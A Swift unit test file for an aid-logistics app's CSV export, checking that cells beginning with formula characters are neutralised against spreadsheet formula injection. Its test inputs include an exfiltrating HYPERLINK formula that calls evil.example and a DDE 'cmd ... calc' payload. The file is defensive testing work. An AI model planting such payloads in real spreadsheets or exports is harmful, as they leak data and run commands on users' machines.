import Testing

@testable import LumbungCore

/// A donor named `=HYPERLINK(...)` must reach the analyst's spreadsheet as text, not as a live
/// formula: every CSV cell (the csv, hxl and wfp exports share one writer) is neutralised as OWASP
/// recommends, while numbers stay numbers.
@Suite("Exports neutralise spreadsheet formulas")
struct CSVInjectionTests {
    static func field(_ text: String) -> String {
        var out: [UInt8] = []
        CSVText.appendField(text, to: &out)
        return String(decoding: out, as: UTF8.self)
    }

    @Test("cells starting with = + - @ tab or CR get a leading quote and are quoted; the text is kept")
    func formulas() {
        #expect(
            Self.field(#"=HYPERLINK("http://evil.example/?x="&A1,"klik")"#) == #""'=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")""#)
        #expect(Self.field("+62 812 3456 7890") == "\"'+62 812 3456 7890\"")
        #expect(Self.field("-2+3+cmd|' /C calc'!A0") == "\"'-2+3+cmd|' /C calc'!A0\"")
        #expect(Self.field("@SUM(1,2)") == "\"'@SUM(1,2)\"")
        #expect(Self.field("\t=1") == "\"'\t=1\"")
        #expect(Self.field("\r=1") == "\"'\r=1\"")
    }

    @Test("numbers, signs of numbers and ordinary text stay as they are")
    func numbersAndText() {
        for plain in ["-8.5652", "116.0779731", "-1", "+5", "1e3", "-2.5E-3", "0", "Gudang BPBD Rembiga", "#adm4+code", "beras"] {
            #expect(Self.field(plain) == plain, "\(plain)")
        }
        #expect(Self.field("mi instan, rasa soto") == "\"mi instan, rasa soto\"")
        #expect(Self.field("-") == "\"'-\"")
        #expect(Self.field("1-2") == "1-2")
    }
}
